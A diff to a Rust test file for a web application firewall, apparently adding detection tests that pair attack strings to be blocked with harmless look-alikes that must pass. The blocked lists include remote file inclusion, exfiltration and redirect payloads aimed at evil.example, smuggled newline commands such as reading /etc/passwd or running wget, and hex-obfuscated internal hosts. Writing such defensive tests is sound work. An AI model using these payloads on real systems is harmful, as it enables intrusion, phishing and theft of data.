@@ -7,12 +7,9 @@
 //! markup that loads or rewrites links and sinks passed as values. Each list sits next to the real traffic
 //! that shares its characters and must pass.
 
-use rampart_waf::{Policy, Request, RuleSet};
+mod common;
 
-fn rules() -> &'static RuleSet {
-    static RULES: std::sync::OnceLock<RuleSet> = std::sync::OnceLock::new();
-    RULES.get_or_init(|| RuleSet::builtin().unwrap())
-}
+use rampart_waf::Policy;
 
 /// Blocked in every placement: query, form and JSON.
 fn blocked_at(v: &str, paranoia: u8) -> [bool; 3] {
@@ -38,16 +35,8 @@ fn blocked_at(v: &str, paranoia: u8) -> [bool; 3] {
         if let Some(ct) = ct {
             h.push(("Content-Type", ct));
         }
-        let req = Request {
-            method: if body.is_empty() { "GET" } else { "POST" },
-            path: "/api/x",
-            query,
-            headers: &h,
-            body,
-            body_truncated: false,
-            version: "HTTP/1.1",
-        };
-        let v = rules().inspect(&req, &policy);
+        let method = if body.is_empty() { "GET" } else { "POST" };
+        let v = common::inspect_with(&policy, method, "/api/x", query, &h, body);
         if v.block {
             let why: Vec<String> = v
                 .matches
@@ -347,4 +336,141 @@ fn graphql_introspection_at_paranoia_2() {
     for a in attacks {
         assert_eq!(blocked_at(a, 1), [false; 3], "{a}");
     }
+}
+
+#[test]
+fn harmless_js_api_calls_in_code_snippets_pass_probes_and_code_strings_block() {
+    check(
+        &[
+            // A console call as the whole value with a number: a probe
+            // that proves server-side evaluation by its output.
+            "console.warn(7)",
+            "console.debug(1337);",
+            // Bracket access and this-bound calls: no snippet writes them.
+            "console['error'](42)",
+            "console.dir.apply(this,[1])",
+            // A timer handed code as a string, or a name that holds one.
+            "setTimeout('document.body.remove()',10)",
+            "setInterval(name)",
+            "setTimeout(payload, 1)",
+            "require('child_process').execSync('id')",
+            "include($_REQUEST['page'])",
+            "require_once('https://evil.example/shell.txt')",
+        ],
+        &[
+            "console.log(user)",
+            "items.forEach(item => console.log(item.id))",
+            "console.error('request failed', err);",
+            "console.table(rows)",
+            "setTimeout(function () { banner.hide() }, 3000)",
+            "setInterval(() => refresh(), 60000)",
+            "setTimeout(async () => { await save() }, 500)",
+            "const express = require('express'); const app = express();",
+            "const { z } = require(\"zod\")",
+            "fn.call(this, event)",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn inline_style_breaking_out_of_its_declarations() {
+    check(
+        &[
+            "<p style=\"color:blue}body{background:url(//evil.example/x)\">hi</p>",
+            "<span style=\"width:1px;{position:fixed;top:0}\">x</span>",
+            "<b style=\"font-family:'a&#10;;position:fixed;top:0'\">x</b>",
+            "<i style=\"width:1px&#2;;background:url(//evil.example/x)\">x</i>",
+            "<em style=\"font:10px 'x\\27\\3B color\\3A red'\">x</em>",
+        ],
+        &[
+            "<p style=\"color:red; font-family: 'Times New Roman'\">Hello</p>",
+            "<span style=\"font-family:\\5FAE\\8F6F\\96C5\\9ED1\">text</span>",
+            "<p style=\"margin:0cm;font-family:'Times New\n Roman'\">Word paste</p>",
+            "<div style=\"background:url(/img/hero.jpg) no-repeat\">banner</div>",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn url_attributes_with_a_split_scheme_or_a_dotted_hex_host() {
+    check(
+        &[
+            "<a href=\"h\ttps://evil.example/login\">account</a>",
+            "<img src=\"ht\ntp://evil.example/p.gif\">",
+            "<a href=\"http://0x7f.0x0.0x0.0x1/admin\">x</a>",
+            "<a href=\"http://0xa9.0xfe.169.254/latest/\">x</a>",
+        ],
+        &[
+            "<a href=\"https://example.com/docs\">docs</a>",
+            "<a href=\"https://0xproject.com/\">0x</a>",
+            "<a href=\"https://0xabc.example.com/\">x</a>",
+            "see http://example.com:8080/a and call 0x1F",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn navigation_by_assignment_to_location() {
+    check(
+        &[
+            "location='//evil.example/'",
+            "top.location = \"https://evil.example/phish\"",
+            "x=1;location=`http://evil.example/?c=`+document.body.innerText",
+        ],
+        &[
+            "location=Paris",
+            "{\"location\":\"https://maps.example/place/1\"}",
+            "location == 'https://example.com/'",
+            "Store location: 'https://shop.example/berlin' (opens daily)",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn shell_lines_written_with_escapes_and_terminal_sequences() {
+    check(
+        &[
+            // Written for a layer that decodes C / JS escapes.
+            "\\nid\\n",
+            "report.pdf\\nwhoami",
+            "x\\u000auname -a",
+            "a\\x0acat /etc/passwd",
+            // A terminal control sequence hiding what follows in a log.
+            "ok\\033[2Kwget http://evil.example/x",
+            "\\x1b[1A\\x1b[2Kall good",
+            "title\\u001b]0;pwned\\u0007",
+        ],
+        &[
+            "C:\\new\\folder\\notes.txt",
+            "Line one\\nLine two\\nLine three",
+            "C:\\Users\\nick\\Documents",
+            "C:\\temp\\x64\\build.log",
+            "ANSI colours look like ESC[31m in the docs",
+        ],
+        1,
+    );
+}
+
+#[test]
+fn php_variable_variables_with_blanks_and_windows_drive_listings() {
+    check(
+        &[
+            "$ {PHP_OS}",
+            "$\t{ 'sys' . 'tem' }",
+            "$  {$cmd}",
+            "dir C:\\Windows\\System32",
+            "dir D:\\backups",
+        ],
+        &[
+            "costs $ 5 {approx}",
+            "Total: $ {{price}}",
+            "${HOME} is set by the login shell",
+            "dir of photography",
+        ],
+        1,
+    );
 }
